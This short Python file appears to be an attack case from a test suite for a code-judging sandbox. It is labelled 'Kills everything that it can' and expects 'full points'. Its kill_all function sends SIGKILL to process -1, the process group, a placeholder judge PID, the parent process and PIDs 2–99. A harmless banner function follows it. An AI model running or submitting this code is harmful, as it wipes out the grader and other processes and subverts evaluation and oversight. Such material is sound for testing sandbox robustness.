# attack: D-2 Kills everything that it can: by -1, by group, by number.
# verdict: full points
# needs: 2
# cell: text
import os
import signal

def kill_all():
    for target in (-1, int("@PID@"), int("@JUDGE@"), -int("@PID@"), os.getppid() or 2, *range(2, 100)):
        if target != os.getpid():
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass

kill_all()

def banner(word):
    line = "*" * (len(word) + 2)
    return f"{line}\n*{word}*\n{line}"
